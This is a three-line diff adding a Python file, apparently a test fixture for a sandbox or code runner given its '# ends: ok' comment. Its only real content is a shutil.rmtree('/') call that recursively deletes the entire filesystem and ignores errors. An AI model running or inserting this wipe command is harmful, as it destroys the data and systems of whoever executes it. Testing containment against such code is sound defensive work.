@@ -1,0 +1,3 @@
+# ends: ok
+import shutil
+shutil.rmtree('/', ignore_errors=True)
